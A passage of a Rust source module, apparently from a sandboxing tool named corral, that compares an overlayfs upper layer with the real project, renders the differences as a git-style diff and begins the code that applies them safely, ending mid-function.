//! Review mode's engine: what a session wrote into its overlayfs upper layer, as a list of changes
//! against the real project (the overlay's lower layer), shown as a diff, and applied to the project
//! or discarded. Pure filesystem code: no sandbox, no mount; it runs after (or, for a diff, during)
//! the session, as the user.
//!
//! The upper layer, as overlayfs leaves it (Documentation/filesystems/overlayfs.rst, "whiteouts and
//! opaque directories"; this machine mounts with `userxattr`, redirect_dir and metacopy off):
//! - a deleted entry is a *whiteout*: a character device 0:0 of the same name;
//! - a directory removed and created again is *opaque* (`user.overlay.opaque` = `y`, or
//!   `trusted.overlay.opaque` without `userxattr`): nothing of the lower directory below it shows
//!   through, and that holds for every directory below it too;
//! - any other entry is the merged view's entry, copied up whole even for a chmod or an open for
//!   writing that wrote nothing (such copies equal to the lower entry are not changes);
//! - a renamed directory is a copy and a whiteout (no redirect_dir).
//!
//! Invariants: the lower tree is only read here, except by [`apply`]. Lower paths are looked up
//! without following a symlink on the way ([`lower_lstat`]), and [`apply`] writes through directory
//! file descriptors opened with `O_NOFOLLOW` from the project root down, so no symlink in the
//! project (old or new) can lead a write outside it. A file is written beside its target and
//! renamed over it, so a reader sees the old or the new file, never half of one. Modes are applied
//! without setuid, setgid and sticky bits.
//!
//! Limits: contents are compared byte by byte (no mtime shortcut); ownership, timestamps,
//! extended attributes and hard links are not carried over; fifos, sockets and devices in the upper
//! layer are listed and never applied. A change is a conflict when its project path (or, for an
//! added path: something now there) changed on the host after the session started, by ctime; a change
//! whose path already holds what the upper layer has (applied earlier) is none.

use anyhow::{anyhow, bail, Context};
use rustix::fs::{AtFlags, FileType, Mode, OFlags};
use rustix::io::Errno;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::ffi::{OsStr, OsString};
use std::fmt::Write as _;
use std::fs;
use std::io::{self, Read, Write as _};
use std::os::fd::OwnedFd;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{DirBuilderExt, FileTypeExt, MetadataExt, OpenOptionsExt};
use std::path::{Component, Path, PathBuf};

/// The upper layer, inside a review directory.
pub const UPPER: &str = "upper";
/// overlayfs's work directory, inside a review directory.
pub const WORK: &str = "work";
/// The session's [`ReviewMeta`], inside a review directory.
const META: &str = "meta.json";
/// The opaque-directory xattrs: with `userxattr` (unprivileged mounts), then without.
const OPAQUE_XATTRS: [&str; 2] = ["user.overlay.opaque", "trusted.overlay.opaque"];
/// A file with a NUL in its first this many bytes is binary (git's heuristic, `buffer_is_binary`).
const BINARY_SNIFF_BYTES: usize = 8 << 10;
/// The permission bits compared and shown.
const MODE_BITS: u32 = 0o7777;
/// The permission bits applied: no setuid, setgid or sticky bit comes out of a sandbox.
const APPLIED_MODE_BITS: u32 = 0o777;
/// A directory is created with this mode and given its own once everything below it is written
/// (its mode may forbid writing into it).
const CREATE_DIR_MODE: u32 = 0o700;
/// Lines of context around each hunk, as `diff -u` and git.
const CONTEXT_LINES: usize = 3;
/// Read and compare files in chunks of this size.
const CHUNK: usize = 64 << 10;
/// Beyond this name length the temporary file is named without the target's name (NAME_MAX 255).
const MAX_NAME_IN_TEMP: usize = 200;

/// `$XDG_STATE_HOME/corral/reviews` (absolute only) or `~/.local/state/corral/reviews`.
pub fn reviews_dir(home: &Path) -> PathBuf {
    let state = match std::env::var_os("XDG_STATE_HOME") {
        Some(d) if Path::new(&d).is_absolute() => PathBuf::from(d),
        _ => home.join(".local/state"),
    };
    state.join("corral/reviews")
}

/// One reviewable session: `reviews/<id>/` holding `upper/`, `work/` and `meta.json`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ReviewMeta {
    /// The session id.
    pub id: String,
    /// The project: the overlay's lower layer, which apply writes to.
    pub workspace: PathBuf,
    /// The profile the session ran with.
    pub profile: String,
    /// When the session started, in ms since the epoch.
    pub started_unix_ms: u64,
    /// The kernel's file clock at session start as (secs, nanos): a project path whose ctime is
    /// later changed on the host during or after the session.
    pub started_ctime: (i64, i64),
    /// The session ended (its overlay is unmounted; the upper layer no longer changes).
    pub ended: bool,
}

/// Makes `reviews/<id>/{upper,work}` (0700) and writes `meta.json`; refuses an existing id.
/// Returns the review directory.
pub fn create(home: &Path, meta: &ReviewMeta) -> anyhow::Result<PathBuf> {
    create_in(&reviews_dir(home), meta)
}

fn create_in(reviews: &Path, meta: &ReviewMeta) -> anyhow::Result<PathBuf> {
    let id = &meta.id;
    if id.is_empty() || id == "." || id == ".." || id.contains('/') {
        bail!("review session id {id:?} is not a plain name");
    }
    fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(reviews)
        .with_context(|| format!("mkdir -p {}", reviews.display()))?;
    let dir = reviews.join(id);
    fs::DirBuilder::new().mode(0o700).create(&dir).with_context(|| {
        format!(
            "mkdir {} (a review session with id {id} exists already?)",
            dir.display()
        )
    })?;
    for sub in [UPPER, WORK] {
        let p = dir.join(sub);
        fs::DirBuilder::new()
            .mode(0o700)
            .create(&p)
            .with_context(|| format!("mkdir {}", p.display()))?;
    }
    write_meta(&dir, meta)?;
    Ok(dir)
}

/// Writes `meta.json` beside (`meta.json.tmp`, 0600) and renames it into place.
fn write_meta(dir: &Path, meta: &ReviewMeta) -> anyhow::Result<()> {
    let tmp = dir.join(format!("{META}.tmp"));
    let path = dir.join(META);
    let mut f = fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(&tmp)
        .with_context(|| format!("open {}", tmp.display()))?;
    let mut bytes = serde_json::to_vec_pretty(meta)?;
    bytes.push(b'\n');
    f.write_all(&bytes)
        .with_context(|| format!("write {}", tmp.display()))?;
    fs::rename(&tmp, &path).with_context(|| format!("rename {} → {}", tmp.display(), path.display()))
}

fn read_meta(dir: &Path) -> anyhow::Result<ReviewMeta> {
    let path = dir.join(META);
    let bytes = fs::read(&path).with_context(|| format!("read {}", path.display()))?;
    serde_json::from_slice(&bytes).with_context(|| format!("parse {}", path.display()))
}

/// Sets `ended = true` in the review directory's `meta.json`.
pub fn mark_ended(dir: &Path) -> anyhow::Result<()> {
    let mut meta = read_meta(dir)?;
    meta.ended = true;
    write_meta(dir, &meta)
}

/// Every review directory with a readable `meta.json`, newest first.
fn all_in(reviews: &Path) -> Vec<(PathBuf, ReviewMeta)> {
    let mut out: Vec<(PathBuf, ReviewMeta)> = fs::read_dir(reviews)
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| {
            let dir = e.path();
            read_meta(&dir).ok().map(|m| (dir, m))
        })
        .collect();
    out.sort_by(|a, b| {
        b.1.started_unix_ms
            .cmp(&a.1.started_unix_ms)
            .then(a.1.id.cmp(&b.1.id))
    });
    out
}

/// The ids of the review sessions, newest first.
pub fn ids(home: &Path) -> Vec<String> {
    all_in(&reviews_dir(home))
        .into_iter()
        .map(|(_, m)| m.id)
        .collect()
}

/// The review session whose id starts with `id_or_prefix` (it must name exactly one); None: the
/// most recent.
pub fn load(home: &Path, id_or_prefix: Option<&str>) -> anyhow::Result<(PathBuf, ReviewMeta)> {
    load_in(&reviews_dir(home), id_or_prefix)
}

fn load_in(reviews: &Path, id_or_prefix: Option<&str>) -> anyhow::Result<(PathBuf, ReviewMeta)> {
    let all = all_in(reviews);
    let Some(prefix) = id_or_prefix else {
        return all
            .into_iter()
            .next()
            .ok_or_else(|| anyhow!("no review session in {}", reviews.display()));
    };
    let mut found: Vec<(PathBuf, ReviewMeta)> = all
        .into_iter()
        .filter(|(_, m)| m.id.starts_with(prefix))
        .collect();
    match found.len() {
        0 => bail!(
            "no review session {prefix} in {} (see `corral sessions`)",
            reviews.display()
        ),
        1 => Ok(found.remove(0)),
        n => bail!(
            "{prefix} names {n} sessions ({}): give more of the id",
            found
                .iter()
                .map(|(_, m)| m.id.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        ),
    }
}

/// Every review session with what it changed, newest first. A session whose upper layer cannot be
/// read counts no changes.
pub fn list(home: &Path) -> Vec<(PathBuf, ReviewMeta, ChangeStats)> {
    list_in(&reviews_dir(home))
}

fn list_in(reviews: &Path) -> Vec<(PathBuf, ReviewMeta, ChangeStats)> {
    all_in(reviews)
        .into_iter()
        .map(|(dir, meta)| {
            let stats = changes(&dir.join(UPPER), &meta.workspace)
                .map(|c| ChangeStats::of(&c))
                .unwrap_or_default();
            (dir, meta, stats)
        })
        .collect()
}

/// What happened to a path, from the project's point of view.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ChangeKind {
    /// New: the project has nothing there.
    Added,
    /// Same type, other content (a file's bytes, a symlink's target); maybe another mode too.
    Modified,
    /// Gone.
    Deleted,
    /// Same content, other permission bits.
    ModeChanged,
    /// Another type (a file became a directory, a directory a symlink, ...).
    TypeChanged,
}

/// One changed path.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Change {
    /// Relative to the workspace.
    pub path: PathBuf,
    /// What happened.
    pub kind: ChangeKind,
    /// The path is a directory: in the upper layer, or (Deleted) in the project.
    pub is_dir: bool,
    /// An exec trigger (`corral_core::changes`): a file the user's tools run or obey.
    pub trigger: bool,
    /// A file's content (old or new) has a NUL in its first 8 KiB or is not UTF-8.
    pub binary: bool,
    /// The project's permission bits (with setuid, setgid, sticky); None when it has nothing there.
    pub old_mode: Option<u32>,
    /// The upper layer's permission bits; None for Deleted.
    pub new_mode: Option<u32>,
    /// Bytes the change writes: a file's size, a symlink's target length; 0 for a directory or a
    /// deletion.
    pub size: u64,
    /// The upper layer holds a fifo, socket or device here: listed, never applied.
    pub special: bool,
}

/// A session's changes, counted.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct ChangeStats {
    /// Changed paths.
    pub changes: usize,
    /// Of which exec triggers.
    pub triggers: usize,
    /// Bytes they write ([`Change::size`]).
    pub bytes: u64,
}

impl ChangeStats {
    /// Counts `changes`.
    pub fn of(changes: &[Change]) -> ChangeStats {
        ChangeStats {
            changes: changes.len(),
            triggers: changes.iter().filter(|c| c.trigger).count(),
            bytes: changes.iter().map(|c| c.size).sum(),
        }
    }
}

/// The type of an entry, as this module tells them apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    File,
    Dir,
    Symlink,
    /// A character device 0:0.
    Whiteout,
    /// A fifo, socket or another device.
    Special(&'static str),
}

impl Kind {
    fn of(m: &fs::Metadata) -> Kind {
        let ft = m.file_type();
        if ft.is_file() {
            Kind::File
        } else if ft.is_dir() {
            Kind::Dir
        } else if ft.is_symlink() {
            Kind::Symlink
        } else if ft.is_char_device() && m.rdev() == 0 {
            Kind::Whiteout
        } else if ft.is_char_device() {
            Kind::Special("character device")
        } else if ft.is_block_device() {
            Kind::Special("block device")
        } else if ft.is_fifo() {
            Kind::Special("fifo")
        } else {
            Kind::Special("socket")
        }
    }

    fn name(self) -> &'static str {
        match self {
            Kind::File => "file",
            Kind::Dir => "dir",
            Kind::Symlink => "symlink",
            Kind::Whiteout => "whiteout",
            Kind::Special(s) => s,
        }
    }
}

/// An `io::Error` that names the operation and the path, keeping the kind.
fn io_at(op: &str, path: &Path, e: io::Error) -> io::Error {
    io::Error::new(e.kind(), format!("{op} {}: {e}", path.display()))
}

/// An error from a syscall, strace-style: the call as context, the errno as its source.
fn sys_err(call: String, e: Errno) -> anyhow::Error {
    anyhow::Error::new(io::Error::from(e)).context(call)
}

fn is_absent(e: &io::Error) -> bool {
    matches!(e.kind(), io::ErrorKind::NotFound | io::ErrorKind::NotADirectory)
}

/// lstat of `root/rel`, reached through real directories only: None when it does not exist or a
/// directory on the way is a symlink or not a directory (what the project has at `rel` then is not
/// what a path lookup inside the sandbox saw).
fn lower_lstat(root: &Path, rel: &Path) -> io::Result<Option<fs::Metadata>> {
    let mut p = root.to_path_buf();
    let mut comps = rel.components().peekable();
    while let Some(c) = comps.next() {
        p.push(c);
        let m = match fs::symlink_metadata(&p) {
            Ok(m) => m,
            Err(e) if is_absent(&e) => return Ok(None),
            Err(e) => return Err(io_at("lstat", &p, e)),
        };
        if comps.peek().is_none() {
            return Ok(Some(m));
        }
        if !m.is_dir() {
            return Ok(None);
        }
    }
    fs::symlink_metadata(root)
        .map(Some)
        .map_err(|e| io_at("lstat", root, e))
}

fn is_opaque(dir: &Path) -> io::Result<bool> {
    for name in OPAQUE_XATTRS {
        let mut buf = [0u8; 8];
        match rustix::fs::lgetxattr(dir, name, &mut buf[..]) {
            Ok(n) => return Ok(buf.get(..n) == Some(b"y")),
            Err(Errno::NODATA | Errno::NOTSUP | Errno::PERM | Errno::RANGE) => {}
            Err(e) => return Err(io_at(&format!("lgetxattr {name}"), dir, e.into())),
        }
    }
    Ok(false)
}

/// The changes the upper layer makes to the lower tree, sorted by path.
pub fn changes(upper: &Path, lower: &Path) -> io::Result<Vec<Change>> {
    let mut out = Vec::new();
    let lower_is_dir = fs::metadata(lower).is_ok_and(|m| m.is_dir());
    walk(
        upper,
        lower,
        Path::new(""),
        Walk {
            opaque_above: false,
            lower_is_dir,
        },
        &mut out,
    )?;
    out.sort_by(|a, b| a.path.cmp(&b.path));
    Ok(out)
}

/// Where a walk of an upper directory stands.
#[derive(Debug, Clone, Copy)]
struct Walk {
    /// A directory above is opaque: nothing of the lower tree shows through here.
    opaque_above: bool,
    /// The lower counterpart of this directory is a real directory, reached through real
    /// directories.
    lower_is_dir: bool,
}

fn walk(upper: &Path, lower: &Path, rel: &Path, at: Walk, out: &mut Vec<Change>) -> io::Result<()> {
    let udir = upper.join(rel);
    let opaque = at.opaque_above || (!rel.as_os_str().is_empty() && is_opaque(&udir)?);
    let mut names = BTreeSet::new();
    for e in fs::read_dir(&udir).map_err(|e| io_at("opendir", &udir, e))? {
        names.insert(e.map_err(|e| io_at("readdir", &udir, e))?.file_name());
    }
    for name in &names {
        entry_change(
            upper,
            lower,
            &rel.join(name),
            Walk {
                opaque_above: opaque,
                ..at
            },
            out,
        )?;
    }
    if opaque && at.lower_is_dir {
        // Nothing below shows through: what the project has here and the upper layer lacks is gone.
        let ldir = lower.join(rel);
        for e in fs::read_dir(&ldir).map_err(|e| io_at("opendir", &ldir, e))? {
            let e = e.map_err(|e| io_at("readdir", &ldir, e))?;
            if names.contains(&e.file_name()) {
                continue;
            }
            let lp = e.path();
            let m = fs::symlink_metadata(&lp).map_err(|err| io_at("lstat", &lp, err))?;
            out.push(deleted(rel.join(e.file_name()), &lp, &m)?);
        }
    }
    Ok(())
}

/// The Deleted change for `rel`, whose project entry (at `lp`) is `lm`.
fn deleted(rel: PathBuf, lp: &Path, lm: &fs::Metadata) -> io::Result<Change> {
    Ok(Change {
        trigger: corral_core::changes::is_exec_trigger(&rel),
        binary: lm.is_file() && file_is_binary(lp)?,
        path: rel,
        kind: ChangeKind::Deleted,
        is_dir: lm.is_dir(),
        old_mode: Some(lm.mode() & MODE_BITS),
        new_mode: None,
        size: 0,
        special: false,
    })
}

/// The change (if any) at `rel`, an entry of an upper directory; recurses into directories.
fn entry_change(upper: &Path, lower: &Path, rel: &Path, at: Walk, out: &mut Vec<Change>) -> io::Result<()> {
    let up = upper.join(rel);
    let um = fs::symlink_metadata(&up).map_err(|e| io_at("lstat", &up, e))?;
    let uk = Kind::of(&um);
    let lp = lower.join(rel);
    let lm = if at.lower_is_dir {
        match fs::symlink_metadata(&lp) {
            Ok(m) => Some(m),
            Err(e) if is_absent(&e) => None,
            Err(e) => return Err(io_at("lstat", &lp, e)),
        }
    } else {
        None
    };
    let lk = lm.as_ref().map(Kind::of);
    let umode = um.mode() & MODE_BITS;
    let lmode = lm.as_ref().map(|m| m.mode() & MODE_BITS);
    let mut change = Change {
        path: rel.to_path_buf(),
        kind: ChangeKind::Added,
        is_dir: uk == Kind::Dir,
        trigger: corral_core::changes::is_exec_trigger(rel),
        binary: false,
        old_mode: lmode,
        new_mode: Some(umode),
        size: 0,
        special: false,
    };
    change.kind = match (uk, lk) {
        (Kind::Whiteout, None) => return Ok(()),
        (Kind::Whiteout, Some(_)) => {
            if let Some(lm) = &lm {
                out.push(deleted(rel.to_path_buf(), &lp, lm)?);
            }
            return Ok(());
        }
        (_, None) => ChangeKind::Added,
        (_, Some(lk)) if lk != uk => ChangeKind::TypeChanged,
        (Kind::Dir, Some(_)) => {
            if Some(umode) == lmode {
                walk(
                    upper,
                    lower,
                    rel,
                    Walk {
                        lower_is_dir: true,
                        ..at
                    },
                    out,
                )?;
                return Ok(());
            }
            ChangeKind::ModeChanged
        }
        (Kind::File, Some(_)) => {
            if !same_file_content(&up, &lp)? {
                ChangeKind::Modified
            } else if Some(umode) != lmode {
                ChangeKind::ModeChanged
            } else {
                return Ok(());
            }
        }
        (Kind::Symlink, Some(_)) => {
            let ut = fs::read_link(&up).map_err(|e| io_at("readlink", &up, e))?;
            let lt = fs::read_link(&lp).map_err(|e| io_at("readlink", &lp, e))?;
            if ut == lt {
                return Ok(());
            }
            ChangeKind::Modified
        }
        (Kind::Special(_), Some(_)) => return Ok(()),
    };
    match uk {
        Kind::File => {
            change.size = um.len();
            change.binary = file_is_binary(&up)? || (lk == Some(Kind::File) && file_is_binary(&lp)?);
        }
        Kind::Symlink => {
            change.size = fs::read_link(&up)
                .map_err(|e| io_at("readlink", &up, e))?
                .as_os_str()
                .len() as u64;
        }
        Kind::Special(_) => change.special = true,
        Kind::Dir | Kind::Whiteout => {}
    }
    out.push(change);
    if uk == Kind::Dir {
        let lower_is_dir = lk == Some(Kind::Dir);
        walk(upper, lower, rel, Walk { lower_is_dir, ..at }, out)?;
    }
    Ok(())
}

/// Opens a file for reading without following a symlink in its last component.
fn open_nofollow(path: &Path) -> io::Result<fs::File> {
    let fd = rustix::fs::open(
        path,
        OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(|e| io_at("open", path, e.into()))?;
    Ok(fs::File::from(fd))
}

/// Reads up to `buf.len()` bytes (fewer only at the end of the file).
fn read_full(f: &mut fs::File, buf: &mut [u8]) -> io::Result<usize> {
    let mut n = 0;
    while n < buf.len() {
        match f.read(&mut buf[n..]) {
            Ok(0) => break,
            Ok(k) => n += k,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(e) => return Err(e),
        }
    }
    Ok(n)
}

/// Two regular files have the same bytes.
fn same_file_content(a: &Path, b: &Path) -> io::Result<bool> {
    let (mut fa, mut fb) = (open_nofollow(a)?, open_nofollow(b)?);
    let same_len = fa.metadata().map_err(|e| io_at("fstat", a, e))?.len()
        == fb.metadata().map_err(|e| io_at("fstat", b, e))?.len();
    if !same_len {
        return Ok(false);
    }
    let (mut ba, mut bb) = (vec![0u8; CHUNK], vec![0u8; CHUNK]);
    loop {
        let na = read_full(&mut fa, &mut ba).map_err(|e| io_at("read", a, e))?;
        let nb = read_full(&mut fb, &mut bb).map_err(|e| io_at("read", b, e))?;
        if na != nb || ba[..na] != bb[..nb] {
            return Ok(false);
        }
        if na == 0 {
            return Ok(true);
        }
    }
}

/// Bytes that are not text: a NUL in the first 8 KiB, or not UTF-8.
fn is_binary(bytes: &[u8]) -> bool {
    bytes[..bytes.len().min(BINARY_SNIFF_BYTES)].contains(&0) || std::str::from_utf8(bytes).is_err()
}

/// [`is_binary`] for a file, read in chunks.
fn file_is_binary(path: &Path) -> io::Result<bool> {
    let mut f = open_nofollow(path)?;
    let mut buf = vec![0u8; CHUNK];
    let mut carry: Vec<u8> = Vec::new();
    let mut first = true;
    loop {
        let n = read_full(&mut f, &mut buf).map_err(|e| io_at("read", path, e))?;
        if first && buf[..n.min(BINARY_SNIFF_BYTES)].contains(&0) {
            return Ok(true);
        }
        first = false;
        if n == 0 {
            // A character cut off at the end of the file.
            return Ok(!carry.is_empty());
        }
        carry.extend_from_slice(&buf[..n]);
        match std::str::from_utf8(&carry) {
            Ok(_) => carry.clear(),
            Err(e) if e.error_len().is_some() => return Ok(true),
            Err(e) => {
                let keep = carry.split_off(e.valid_up_to());
                carry = keep;
            }
        }
    }
}

/// `path` is one of `only`, or below one of them.
fn named(path: &Path, only: &[PathBuf]) -> bool {
    only.iter().any(|o| path.starts_with(o))
}

// ---------------------------------------------------------------------------------------------
// Diff

/// One side of a change, as shown.
#[derive(Debug)]
enum Side {
    Absent,
    Dir,
    Text(String),
    Binary(u64),
    /// Shown as git shows a symlink: a blob holding its target, without a newline.
    Symlink(String),
    Special(&'static str),
    Unreadable(String),
}

impl Side {
    fn read(root: &Path, rel: &Path) -> Side {
        let m = match lower_lstat(root, rel) {
            Ok(Some(m)) => m,
            Ok(None) => return Side::Absent,
            Err(e) => return Side::Unreadable(e.to_string()),
        };
        let p = root.join(rel);
        match Kind::of(&m) {
            Kind::Dir => Side::Dir,
            Kind::Whiteout => Side::Absent,
            Kind::Special(s) => Side::Special(s),
            Kind::Symlink => match fs::read_link(&p) {
                Ok(t) => Side::Symlink(t.to_string_lossy().into_owned()),
                Err(e) => Side::Unreadable(io_at("readlink", &p, e).to_string()),
            },
            Kind::File => {
                let mut bytes = Vec::new();
                match open_nofollow(&p).and_then(|mut f| f.read_to_end(&mut bytes)) {
                    Ok(_) if is_binary(&bytes) => Side::Binary(bytes.len() as u64),
                    Ok(_) => Side::Text(String::from_utf8_lossy(&bytes).into_owned()),
                    Err(e) => Side::Unreadable(io_at("read", &p, e).to_string()),
                }
            }
        }
    }

    fn kind_name(&self) -> &'static str {
        match self {
            Side::Absent => "nothing",
            Side::Dir => "dir",
            Side::Text(_) | Side::Binary(_) | Side::Unreadable(_) => "file",
            Side::Symlink(_) => "symlink",
            Side::Special(s) => s,
        }
    }

    fn text(&self) -> Option<&str> {
        match self {
            Side::Absent | Side::Dir | Side::Special(_) | Side::Unreadable(_) => Some(""),
            Side::Text(t) | Side::Symlink(t) => Some(t),
            Side::Binary(_) => None,
        }
    }

    fn len(&self) -> u64 {
        match self {
            Side::Binary(n) => *n,
            other => other.text().map_or(0, |t| t.len() as u64),
        }
    }
}

/// `s` with control and bidirectional-override characters escaped: what the agent wrote must not
/// move the cursor or reorder the review it is shown in.
fn shown(s: &str) -> String {
    crate::cmd_trust::printable(s)
}

fn shown_path(c: &Change) -> String {
    let p = shown(&c.path.to_string_lossy());
    if c.is_dir {
        format!("{p}/")
    } else {
        p
    }
}

/// (inserted, deleted) lines between two texts.
fn line_counts(old: &str, new: &str) -> (usize, usize) {
    let diff = similar::TextDiff::from_lines(old, new);
    diff.iter_all_changes().fold((0, 0), |(i, d), c| match c.tag() {
        similar::ChangeTag::Insert => (i + 1, d),
        similar::ChangeTag::Delete => (i, d + 1),
        similar::ChangeTag::Equal => (i, d),
    })
}

/// The changes (those under `only`, if any) as a diff: exec triggers first, each marked; or with
/// `stat`, one line per change and a total.
pub fn render_diff(changes: &[Change], upper: &Path, lower: &Path, stat: bool, only: &[PathBuf]) -> String {
    let selected: Vec<&Change> = changes
        .iter()
        .filter(|c| only.is_empty() || named(&c.path, only))
        .collect();
    let (triggers, rest): (Vec<&Change>, Vec<&Change>) = selected.iter().partition(|c| c.trigger);
    let mut out = String::new();
    let (mut ins, mut del) = (0, 0);
    for c in triggers.iter().chain(&rest) {
        let old = match c.kind {
            ChangeKind::Added => Side::Absent,
            _ => Side::read(lower, &c.path),
        };
        let new = match c.kind {
            ChangeKind::Deleted => Side::Absent,
            _ => Side::read(upper, &c.path),
        };
        if stat {
            // The line counts are for --stat only: a plain diff computes its hunks once, below.
            let counts = match (old.text(), new.text()) {
                (Some(o), Some(n)) => line_counts(o, n),
                _ => (0, 0),
            };
            ins += counts.0;
            del += counts.1;
            stat_line(&mut out, c, &old, &new, counts);
        } else {
            diff_one(&mut out, c, &old, &new);
        }
    }
    if stat {
        let bytes: u64 = selected.iter().map(|c| c.size).sum();
        let _ = writeln!(
            out,
            "{} changed, {} exec trigger{}, +{ins} -{del} lines, {bytes} bytes",
            plural(selected.len(), "path"),
            triggers.len(),
            if triggers.len() == 1 { "" } else { "s" }
        );
    }
    out
}

fn plural(n: usize, what: &str) -> String {
    if n == 1 {
        format!("{n} {what}")
    } else {
        format!("{n} {what}s")
    }
}

fn octal(mode: Option<u32>) -> String {
    mode.map_or("-".to_string(), |m| format!("{m:o}"))
}

fn trigger_mark(c: &Change) -> &'static str {
    if c.trigger {
        "  [EXEC TRIGGER]"
    } else {
        ""
    }
}

fn special_note(c: &Change, new: &Side) -> String {
    if c.special {
        format!("  ({}: never applied)", new.kind_name())
    } else {
        String::new()
    }
}

fn stat_line(out: &mut String, c: &Change, old: &Side, new: &Side, (ins, del): (usize, usize)) {
    let p = shown_path(c);
    let mark = trigger_mark(c);
    let note = special_note(c, new);
    let modes = if c.old_mode != c.new_mode && c.old_mode.is_some() && c.new_mode.is_some() {
        format!("  {}→{}", octal(c.old_mode), octal(c.new_mode))
    } else {
        String::new()
    };
    let _ = match c.kind {
        ChangeKind::Added => writeln!(out, "A {p}{note}{mark}"),
        ChangeKind::Deleted => writeln!(out, "D {p}{mark}"),
        ChangeKind::TypeChanged => writeln!(
            out,
            "T {p} ({} → {}){note}{mark}",
            old.kind_name(),
            new.kind_name()
        ),
        ChangeKind::ModeChanged => writeln!(out, "m {p} {}→{}{mark}", octal(c.old_mode), octal(c.new_mode)),
        ChangeKind::Modified if c.binary => {
            writeln!(
                out,
                "M {p}  binary, {} → {} bytes{modes}{mark}",
                old.len(),
                new.len()
            )
        }
        ChangeKind::Modified => writeln!(out, "M {p}  +{ins} -{del}{modes}{mark}"),
    };
}

fn diff_one(out: &mut String, c: &Change, old: &Side, new: &Side) {
    let p = shown(&c.path.to_string_lossy());
    let _ = writeln!(out, "diff a/{p} b/{p}{}", trigger_mark(c));
    let what = |s: &Side| match s {
        Side::Dir => "directory",
        other => other.kind_name(),
    };
    let _ = match c.kind {
        ChangeKind::Added => writeln!(out, "new {} mode {}", what(new), octal(c.new_mode)),
        ChangeKind::Deleted => writeln!(out, "deleted {} mode {}", what(old), octal(c.old_mode)),
        ChangeKind::TypeChanged => writeln!(out, "type {} → {}", what(old), what(new)),
        ChangeKind::ModeChanged => writeln!(out, "mode {} → {}", octal(c.old_mode), octal(c.new_mode)),
        ChangeKind::Modified if c.old_mode != c.new_mode => {
            writeln!(out, "mode {} → {}", octal(c.old_mode), octal(c.new_mode))
        }
        ChangeKind::Modified => Ok(()),
    };
    if c.special {
        let _ = writeln!(
            out,
            "a {}: corral applies files, directories and symlinks only",
            what(new)
        );
    }
    for side in [old, new] {
        if let Side::Unreadable(e) = side {
            let _ = writeln!(out, "cannot read: {}", shown(e));
        }
    }
    let a = if matches!(old, Side::Absent) {
        "/dev/null".to_string()
    } else {
        format!("a/{p}")
    };
    let b = if matches!(new, Side::Absent) {
        "/dev/null".to_string()
    } else {
        format!("b/{p}")
    };
    let _ = writeln!(out, "--- {a}\n+++ {b}");
    match (old.text(), new.text()) {
        (Some(o), Some(n)) => hunks(out, o, n),
        _ => {
            let _ = writeln!(
                out,
                "Binary files differ ({} bytes → {} bytes)",
                old.len(),
                new.len()
            );
        }
    }
}

/// The unified diff's hunks, each line made [`shown`].
fn hunks(out: &mut String, old: &str, new: &str) {
    let diff = similar::TextDiff::from_lines(old, new);
    let mut udiff = diff.unified_diff();
    udiff.context_radius(CONTEXT_LINES);
    for hunk in udiff.iter_hunks() {
        let _ = writeln!(out, "{}", hunk.header());
        for change in hunk.iter_changes() {
            let sign = match change.tag() {
                similar::ChangeTag::Delete => '-',
                similar::ChangeTag::Insert => '+',
                similar::ChangeTag::Equal => ' ',
            };
            let line = change.to_string_lossy();
            let _ = writeln!(out, "{sign}{}", shown(line.strip_suffix('\n').unwrap_or(&line)));
            if change.missing_newline() {
                let _ = writeln!(out, "\\ No newline at end of file");
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Apply

/// What [`apply`] applies.
#[derive(Debug)]
pub struct ApplyOpts<'a> {
    /// Only these paths (relative to the workspace; a directory includes what is below it); empty:
    /// everything. A directory the upper layer creates above a named path is applied with it.
    pub only: &'a [PathBuf],
    /// Apply over conflicts (project paths changed on the host since the session started).
    pub force: bool,
    /// Apply exec triggers too (otherwise only those named in `only`).
    pub include_triggers: bool,
}

/// What [`apply`] did.
#[derive(Debug, Default)]
pub struct ApplyReport {
    /// Applied, in order.
    pub applied: Vec<PathBuf>,
    /// Exec triggers not applied (neither named nor included), and what is below them.
    pub skipped_triggers: Vec<PathBuf>,
    /// Paths changed on the host since the session started, and how. Without `force`, when there
    /// is one, nothing is applied.
    pub conflicts: Vec<(PathBuf, String)>,
    /// Fifos, sockets, devices: never applied.
    pub unsupported: Vec<(PathBuf, String)>,
}

fn ctime_of(m: &fs::Metadata) -> (i64, i64) {
    (m.ctime(), m.ctime_nsec())
}

/// The latest ctime in the tree at `path` (not following symlinks).
fn tree_ctime(path: &Path, m: &fs::Metadata) -> io::Result<(i64, i64)> {
    let mut latest = ctime_of(m);
    if m.is_dir() {
        for e in fs::read_dir(path).map_err(|e| io_at("opendir", path, e))? {
            let e = e.map_err(|e| io_at("readdir", path, e))?;
            let p = e.path();
            let em = fs::symlink_metadata(&p).map_err(|e| io_at("lstat", &p, e))?;
            latest = latest.max(tree_ctime(&p, &em)?);
        }
    }
    Ok(latest)
}

/// The project already has what the upper layer has at `rel` (an earlier apply wrote it).
fn same_as_upper(upper: &Path, lower: &Path, rel: &Path, lm: &fs::Metadata) -> io::Result<bool> {
    let up = upper.join(rel);
    let um = fs::symlink_metadata(&up).map_err(|e| io_at("lstat", &up, e))?;
    let lp = lower.join(rel);
    Ok(match (Kind::of(&um), Kind::of(lm)) {
        (Kind::File, Kind::File) => {
            um.mode() & APPLIED_MODE_BITS == lm.mode() & APPLIED_MODE_BITS && same_file_content(&up, &lp)?
        }
